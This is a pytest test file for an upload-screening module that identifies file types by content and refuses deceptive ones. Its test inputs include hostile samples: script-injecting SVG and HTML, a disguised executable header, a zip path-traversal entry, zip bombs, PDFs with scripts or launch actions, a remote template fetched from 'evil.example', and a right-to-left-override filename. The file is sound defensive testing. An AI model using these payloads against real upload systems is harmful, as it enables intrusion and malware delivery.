"""What a file is, is told by its content: every accepted type, and files made to deceive."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from greenward.bureau.casework.contents import TYPES, Refused, isolated, recognise, text, tidy_name
from greenward.bureau.casework.contents.isolated import Failed, ask

from . import papers


def told(folder: Path, content: bytes, name: str = "") -> str:
    path = folder / "content"
    path.write_bytes(content)
    return recognise(path, name).key


def refused(folder: Path, content: bytes, name: str, says: str) -> None:
    from django.utils.translation import override

    with override("en"), pytest.raises(Refused) as error:
        told(folder, content, name)
    assert says in " ".join(error.value.messages)


@pytest.mark.parametrize("key", TYPES)
def test_every_accepted_type_is_told_by_its_content(key: str, tmp_path: Path) -> None:
    content, name = papers.GOOD[key]
    assert told(tmp_path, content, name) == key
    assert told(tmp_path, content, "without an ending") == key


@pytest.mark.parametrize("key", TYPES)
def test_a_name_that_says_another_type_is_refused(key: str, tmp_path: Path) -> None:
    content, _name = papers.GOOD[key]
    other = "photo.png" if key != "png" else "photo.pdf"
    refused(tmp_path, content, other, "The name ends in")
    refused(tmp_path, content, "run.exe", "The name ends in .exe")


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (b"", "a.pdf", "The file is empty"),
        (b"MZ\x90\x00" + bytes(200), "a.pdf", "not accepted"),
        (b"GIF89a" + bytes(60), "a.gif", "not accepted"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.svg", "not accepted"),
        (b"  <!DOCTYPE html><script>alert(1)</script>", "a.txt", "not accepted"),
        (b"\xef\xbb\xbf<html><body>", "a.txt", "not accepted"),
        (b"<?xml version='1.0'?><a/>", "a.txt", "not accepted"),
        (b"plain\x00text", "a.txt", "not accepted"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", "not accepted"),
        (papers.zipped({"a.pdf": papers.pdf()}), "a.zip", "one by one"),
        (papers.ooxml(more={"word/vbaProject.bin": b"x"}), "a.docx", "macros"),
        (papers.ooxml("wordprocessingml.document.macroEnabled.main+xml"), "a.docx", "macros"),
        (papers.odf() + b"", "a.docx", "The name ends in .docx"),
        (papers.ooxml(more={"../../etc/passwd": b"x"}), "a.docx", "damaged"),
        (papers.bomb(), "a.docx", "unpacks to far more"),
        (papers.bomb_that_lies(), "a.docx", "damaged"),
        (papers.ooxml()[:-30], "a.docx", "damaged"),
        (papers.pdf_with_script(), "a.pdf", "script"),
        (papers.pdf_hidden_script(), "a.pdf", "script"),
        (papers.pdf_launching(), "a.pdf", "start a program"),
        (papers.pdf_with_attachment(), "a.pdf", "attached"),
        (papers.pdf_locked("secret"), "a.pdf", "password"),
        (b"%PDF-1.7\nnothing of the kind", "a.pdf", "damaged"),
        (papers.png() + b"PK\x03\x04 hidden", "a.png", "hidden behind the end"),
        (papers.png()[:50], "a.png", "damaged or cut off"),
        (papers.png_stating(100_000, 100_000), "a.png", "pixels"),
        (papers.png_stating(0, 10), "a.png", "damaged"),
        (papers.jpeg()[:30], "a.jpg", "damaged or cut off"),
        (papers.tiff()[:9], "a.tif", "damaged or cut off"),
        (papers.tiff(60_000, 60_000), "a.tif", "pixels"),
        (papers.ifc()[:-20], "a.ifc", "cut off"),
        (papers.ifc().replace(b"IFC4", b"AP214"), "a.ifc", "IFC schema"),
        (papers.dxf()[:30], "a.dxf", "cut off"),
        (papers.dwg()[:100], "a.dwg", "cut off"),
    ],
)
def test_what_deceives_or_harms_is_refused(
    content: bytes, name: str, says: str, tmp_path: Path
) -> None:
    refused(tmp_path, content, name, says)


def test_a_template_fetched_from_elsewhere_is_refused(tmp_path: Path) -> None:
    outside = b"""<Relationships><Relationship Id="rId1" TargetMode="External"
      Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
      Target="http://evil.example/t.dotm"/></Relationships>"""
    parts = {"word/_rels/settings.xml.rels": outside}
    refused(tmp_path, papers.ooxml(more=parts), "a.docx", "elsewhere")
    link = outside.replace(b"attachedTemplate", b"hyperlink")
    parts = {"word/_rels/document.xml.rels": link}
    assert told(tmp_path, papers.ooxml(more=parts), "a.docx") == "docx"


def test_a_pdf_without_printing_rights_is_readable_all_the_same(tmp_path: Path) -> None:
    assert told(tmp_path, papers.pdf_locked(""), "a.pdf") == "pdf"


@pytest.mark.parametrize("key", ["txt", "pdf"])
def test_each_type_has_its_largest_size(key: str, tmp_path: Path) -> None:
    path = tmp_path / "large"
    path.write_bytes(papers.GOOD[key][0])
    with path.open("r+b") as file:
        file.truncate(TYPES[key].limit + 1)
    with pytest.raises(Refused):
        recognise(path, "")


def test_a_directory_too_large_is_never_read(tmp_path: Path) -> None:
    many = papers.zipped({f"p{number}": b"" for number in range(10_001)})
    refused(tmp_path, many, "a.docx", "unpacks to far more")


def test_chinese_text_in_its_own_encoding(tmp_path: Path) -> None:
    assert told(tmp_path, "能耗\r\n".encode("gb18030") * 9000, "a.txt") == "txt"
    refused(tmp_path, b"abc\xff\xff\xfe" * 3000, "a.txt", "UTF-8")


@given(st.binary(max_size=300))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
def test_any_bytes_are_told_or_refused_and_nothing_else(tmp_path: Path, content: bytes) -> None:
    for head in (b"", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"II*\x00", b"AC1032"):
        try:
            assert told(tmp_path, head + content) in TYPES
        except Refused as error:
            assert error.messages


@given(cut=st.integers(0, 3000), change=st.binary(min_size=1, max_size=4))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
def test_a_changed_office_file_is_told_or_refused(tmp_path: Path, cut: int, change: bytes) -> None:
    good = papers.xlsx()
    at = cut % len(good)
    try:
        told(tmp_path, good[:at] + change + good[at + len(change) :])
    except Refused as error:
        assert error.messages


def test_a_reader_that_dies_ends_nothing_but_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a"
    path.write_bytes(b"%PDF-1.4 nonsense")
    with pytest.raises(Failed):
        ask("pdf", path)
    monkeypatch.setattr(isolated, "WALL", 0.001)
    with pytest.raises(Failed):
        ask("pdf", path)


def test_a_reader_has_little_memory_and_cannot_write_much() -> None:
    """The limits the reader sets for itself hold: a program under them is refused more."""
    script = (
        "from greenward.bureau.casework.contents.reader import confine, MEMORY; confine(); "
        "bytearray(MEMORY)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert "MemoryError" in done.stderr


def test_text_is_read_a_piece_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(text, "CHUNK", 3)
    path = tmp_path / "t"
    path.write_bytes("能耗表".encode() * 50)
    assert text.readable(path, "utf-8-sig")


@pytest.mark.parametrize(
    ("name", "tidy"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\li\\报告.pdf", "报告.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("  .. ", ""),
        ("x" * 300 + ".docx", "x" * 115 + ".docx"),
        ("a\u3000\u2003b.pdf", "a b.pdf"),
        ("", ""),
    ],
)
def test_names_are_shown_without_what_deceives(name: str, tidy: str) -> None:
    assert tidy_name(name) == tidy


@given(st.text(max_size=200))
def test_any_name_becomes_one_harmless_line(name: str) -> None:
    tidy = tidy_name(name)
    assert len(tidy) <= 120
    assert not set(tidy) & set("/\\\r\n\x00\u202e\u2066")
    assert tidy_name(tidy) == tidy
